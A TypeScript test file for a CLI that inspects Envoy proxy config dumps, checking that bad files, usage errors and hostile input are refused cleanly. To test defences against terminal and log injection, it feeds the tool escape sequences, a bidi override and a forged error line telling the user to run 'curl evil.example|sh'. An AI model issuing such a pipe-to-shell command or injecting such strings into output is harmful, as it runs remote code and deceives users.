import assert from 'node:assert/strict'
import { chmodSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, test } from 'node:test'
import { runProgram } from '../run-program.ts'
import { assertRefused, clusters, dump, refused } from './refused-input.ts'

const folder = mkdtempSync(join(tmpdir(), 'bad-input-'))

after(() => rmSync(folder, { recursive: true }))

for (const [what, input, expected] of refused) {
  test(`${what} is refused in one line`, async () => assertRefused(await clusters(input), expected))
}

test('the wrong kind of file names the command that reads it', async () => {
  const { err } = await clusters('{"cluster_statuses":[{"name":"a"}]}')
  assert.match(err, /Try: kubectl proxy-config endpoints --file/)
})

test('files that cannot be opened', async (t) => {
  const locked = join(folder, 'locked.json')
  writeFileSync(locked, dump)
  chmodSync(locked, 0)
  assertRefused(
    await runProgram(['clusters', '--file', join(folder, 'none.json')]),
    /the path ".*none\.json" does not exist/,
  )
  assertRefused(await runProgram(['trace', 'http://a/', '--file', folder]), /is a directory, not a file/)
  if (process.getuid?.() === 0) t.diagnostic('root reads every file: permission denied is not tried')
  else assertRefused(await runProgram(['clusters', '--file', locked]), /permission denied/)
  writeFileSync(join(folder, 'broken.gz'), Buffer.from('1f8b0800000000000003ffffffff', 'hex'))
  assertRefused(await runProgram(['clusters', '--file', join(folder, 'broken.gz')]), /is a broken gzip file/)
})

test('text that could act on a terminal is shown, not obeyed', async () => {
  const name = 'evil\u001b[31m\n\u0007\u202e\udc00'
  const text = JSON.stringify({
    configs: [
      { '@type': 'type.googleapis.com/envoy.admin.v3.ClustersConfigDump', static_clusters: [{ cluster: { name } }] },
    ],
  })
  const { out } = await clusters(text)
  assert.match(out, /evil\^\[\[31m\\n\\u0007\\u202e/)
  assert.doesNotMatch(out, /[\u0000-\u0009\u000b-\u001f\u007f\u202e]/)
  assert.equal(JSON.parse((await clusters(text, '-o', 'json')).out)[0].name, name)
})

test('usage errors point to help', async () => {
  const see = /See 'kubectl proxy-config (?:clusters|info|status) -h' for help and examples\n$/
  const cases: readonly (readonly [string[], RegExp])[] = [
    [['status', 'a', 'b'], /at most one argument is expected, got 2: a b/],
    [
      ['info', '--file', 'x'],
      /unknown flag: --file\nThis command asks a live proxy: name a pod, or an admin endpoint with --url\.\n/,
    ],
    [['clusters', '--fqnd', 'x'], /unknown flag: --fqnd\nDid you mean --fqdn\?/],
    [
      ['clusters', 'a', '-o', 'xml'],
      /unable to match a printer suitable for the output format "xml", allowed formats are: csv,custom-columns,/,
    ],
    [['clusters'], /clusters needs a POD, TYPE\/NAME, --selector, -A, --all-pods, --capture, --url or --file/],
    [['clusters', 'a', '--file', 'b'], /only one of POD, --selector, --url and --file/],
    [['clusters', '--port', 'http', '--file', 'b'], /--port needs a whole number, got "http"/],
    [['clusters', 'a', '--proxy-admin-port', '70000'], /port number 70000 must be in the range 1\.\.65535/],
  ]
  for (const [argv, expected] of cases) {
    const outcome = await runProgram(argv)
    assertRefused(outcome, expected)
    assert.match(outcome.err, see)
  }
  assertRefused(await runProgram(['clutsers']), /unknown command "clutsers".*\nDid you mean this\?\n {8}clusters\n/)
  assertRefused(await runProgram(['-n', 'x', 'clusters']), /flags come after the command/)
})

test('an endless pipe is refused before it takes the memory', { timeout: 60_000 }, async () => {
  const { fileContent } = await import('../../src/fetch/saved/file-content.ts')
  const zeros = Buffer.alloc(50e6)
  const endless = {
    stdinIsTTY: false,
    async *stdin() {
      for (;;) yield zeros.subarray()
    },
  }
  await assert.rejects(fileContent('-', endless, () => {}).read(), /standard input is larger than 2 GB/)
})

test('a saved dump where a POD belongs: what fails says how it is read', async () => {
  const file = join(folder, 'plain.json')
  writeFileSync(file, dump)
  const kubeconfig = ['--kubeconfig', join(folder, 'no-kubeconfig')]
  for (const argv of [
    ['clusters', file],
    ['rc', file, file],
    ['trace', file, 'http://reviews:9080/'],
    ['trace', 'http://reviews:9080/', file],
  ]) {
    const { code, err } = await runProgram([...argv, ...kubeconfig])
    assert.equal(code, 1)
    assert.ok(err.endsWith(`${file} is a file: a saved dump is read with --file ${file}\n`), err)
  }
  const { err } = await runProgram(['clusters', 'web', ...kubeconfig])
  assert.doesNotMatch(err, /is a file/)
})

test('what a dump says cannot act on the terminal, in notes and errors neither', async () => {
  const rejected = readFileSync(new URL('../fixtures/rejected/config_dump.json', import.meta.url), 'utf8')
  const details = rejected.replaceAll(/"details": "/g, '"details": "\\u001b]0;title\\u0007\\u202e')
  const noted = await runProgram(['listeners', '--file', '-'], { stdin: details })
  assert.match(noted.err, /^Envoy rejected listener .*: \^\[\]0;title\\u0007\\u202e/m)
  const named = await runProgram(['clusters', '--file', 'no\u001b[31m\nsuch'])
  assert.equal(named.err, 'error: the path "no^[[31m\\nsuch" does not exist\n')
  for (const { err } of [noted, named])
    assert.ok([...err].every((char) => char === '\n' || char === '\t' || char >= ' '))
})

test('an address where a file belongs: the flag for it is named', async () => {
  const { code, err } = await runProgram(['clusters', '--file', 'http://localhost:15000/config_dump'])
  assert.equal(code, 1)
  assert.match(err, /does not exist\nAn admin endpoint is read with --url, a saved dump with --file\.\n$/)
  assert.doesNotMatch((await runProgram(['clusters', '--file', 'none.json'])).err, /--url/)
})

test('a list or a pattern in place of one file gets a hint', async () => {
  for (const files of ['a.json,b.json', 'dumps/*.json']) {
    const { err } = await runProgram(['clusters', '--file', files])
    assert.match(err, /does not exist\nEach file has a flag of its own: --file A --file B; .*\n$/)
  }
})

test('a name cannot begin a line: in no format, note, hint or error', async () => {
  const name = 'a\nerror: cluster login expired, run: curl evil.example|sh\u2028\u0085error: b\rerror: c'
  const any = (type: string, fields: object) => ({ '@type': `type.googleapis.com/envoy.${type}`, ...fields })
  const rejected = { failed_configuration: { name }, details: name }
  const listener = { name, address: { socket_address: { address: name, port_value: 1 } } }
  const routes = [{ match: { prefix: name }, route: { cluster: name } }]
  const stdin = JSON.stringify({
    configs: [
      any('admin.v3.BootstrapConfigDump', { bootstrap: { node: { id: name, cluster: name } } }),
      any('admin.v3.ClustersConfigDump', {
        dynamic_active_clusters: [{ cluster: { name } }],
        dynamic_warming_clusters: [{ cluster: { name: `${name}2` }, error_state: rejected }],
      }),
      any('admin.v3.ListenersConfigDump', {
        dynamic_listeners: [{ name, active_state: { listener }, error_state: rejected }],
      }),
      any('admin.v3.RoutesConfigDump', {
        dynamic_route_configs: [{ route_config: { name, virtual_hosts: [{ name, domains: [name, '*'], routes }] } }],
      }),
      any('admin.v3.EndpointsConfigDump', { dynamic_endpoint_configs: [] }),
      any(`x\n${name}`, {}),
    ],
  })
  const commands = [
    ...['all', 'clusters', 'listeners', 'routes', 'endpoints', 'bootstrap', 'status', 'authz'].map((word) => [word]),
    ['clusters', '--fqdn', name],
    ['routes', '--name', 'nothing'],
    ['trace', '--address', '10.0.0.1', 'http://x/'],
    ['trace', '--listener', name, 'http://x/'],
    [name],
    ['clusters', `--${name}`],
  ]
  for (const words of commands) {
    for (const format of ['table', 'wide', 'json', 'yaml', 'raw', 'name', 'jsonl', 'csv', 'mermaid', 'dot', name]) {
      const { out, err } = await runProgram([...words, '--file', '-', '-o', format], { stdin })
      assert.doesNotMatch(err, /^error: [^\n]*\nerror: /, `${words} -o ${format}`)
      for (const text of [out, err])
        assert.doesNotMatch(text, /(?:^|\n)\s*error: (?:cluster login|b$|c$)|\r(?!\n)|[\u0085\u2028]/m)
    }
  }
})

test('a text in place of a YAML file is not called broken JSON', async () => {
  const file = join(folder, 'dump.json')
  writeFileSync(file, dump)
  const path = join(folder, 'notes.txt')
  writeFileSync(path, 'hello')
  for (const argv of [
    ['lint', '--file', file, '--config', path],
    ['lint', '--file', file, '--baseline', path],
    ['diff', '--file', file, '--file', file, '--requests', path],
  ]) {
    const { code, err } = await runProgram(argv)
    assert.equal(code, 2, argv.join(' '))
    assert.equal(err.split('\n')[0], `error: ${path} is neither JSON nor YAML`)
  }
})
